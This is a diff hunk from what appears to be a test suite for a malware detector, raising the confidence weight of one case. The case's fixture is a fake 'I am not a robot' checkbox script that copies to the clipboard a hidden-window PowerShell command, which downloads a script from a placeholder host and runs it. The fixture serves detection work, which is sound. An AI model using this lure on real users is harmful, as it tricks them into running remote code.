@@ -13,7 +13,7 @@ examine(downloadsAndSpawns, {
       files: {
         'index.js': `document.getElementById('robot').onchange = () => navigator.clipboard.writeText('powershell -w h -c "iwr https://get.invalid/v | iex" # I am not a robot')`,
       },
-      weight: 'strong',
+      weight: 'proof',
       says: ['clipboard'],
     },
     {
